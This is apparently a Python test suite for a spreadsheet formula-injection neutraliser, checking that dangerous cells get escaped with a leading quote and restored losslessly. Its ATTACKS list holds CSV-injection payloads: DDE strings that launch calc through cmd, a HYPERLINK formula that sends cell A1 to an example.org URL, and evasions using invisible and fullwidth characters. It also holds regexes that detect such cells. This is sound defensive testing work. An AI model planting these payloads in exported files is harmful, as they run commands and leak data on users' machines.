"""Cells that a spreadsheet takes for text, and their way back."""

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from csvdynamo_airflow.reading.spreadsheet_cells import is_marked_within, neutralise, restore

_SIGN = r"[=+\-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b]"
FORMULA = re.compile(rf"[\s\x00-\x1f\u200b\ufeff]*{_SIGN}|[\t\r\n]")
"""What some spreadsheet may run, told another way than the code does."""

FORMULA_PIECE = re.compile(rf"[\"\s\x00-\x1f\u200b\ufeff]*{_SIGN}")
"""The same of what it may take for a cell where it cuts a line elsewhere than its writer did."""

ATTACKS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://example.org/?"&A1,"see")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    " \t\r\n +1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1,1)",
    " \uff1d1+1",
    "\ufe661+1",
    '"=1+1',
]
WITHIN = {
    "x;=1+1": "x;'=1+1",
    "x\t=1+1": "x\t'=1+1",
    "x|=1+1": "x|'=1+1",
    "x\n=1+1": "x\n'=1+1",
    "x\r\n=1+1": "x\r\n'=1+1",
    ";=1": ";'=1",
    ";;@a;-1": ";;'@a;'-1",
    'x;"=1"': 'x;\'"=1"',
    'x; ""\u200b=1': 'x;\' ""\u200b=1',
    "x;\uff1d1": "x;'\uff1d1",
    "x;'quoted'": "x;''quoted'",
    "=1;=2": "'=1;'=2",
    "\t=1": "'\t'=1",
}
"""Cells that hold what another separator makes a cell of its own, and what becomes of them."""


@pytest.mark.parametrize("text", ATTACKS)
def test_what_a_spreadsheet_would_run_becomes_text(text: str) -> None:
    assert neutralise(text).startswith("'")
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize(("text", "cell"), WITHIN.items())
def test_what_another_separator_makes_a_formula_becomes_text_too(text: str, cell: str) -> None:
    assert neutralise(text) == cell
    assert restore(cell) == text
    assert is_marked_within(text)


@pytest.mark.parametrize(
    "text", ["", "1+1", "a=1", " a", "(=1", "a'b", "Ωmega", "\u00bd cup", "#REF", "a;b", "a;b=1", "a\nb", "a,=1"]
)
def test_what_no_spreadsheet_runs_stays_as_it_is(text: str) -> None:
    assert neutralise(text) == text
    assert not is_marked_within(text)


_TEXTS = (
    st.text() | st.text(alphabet="'=+-@\t\r\n \u200b\u3000\uff1d\uff0b\uff0d\uff20x\",;|") | st.sampled_from(ATTACKS)
)


@given(_TEXTS)
@example("''=1")
@example("'")
def test_every_text_comes_back_to_the_letter_and_is_no_formula_meanwhile(text: str) -> None:
    cell = neutralise(text)

    assert restore(cell) == text
    assert not FORMULA.match(cell)
    assert not any(map(FORMULA_PIECE.match, re.split("[;|\t\r\n]", cell)))
    assert is_marked_within(text) == (cell not in {text, "'" + text})
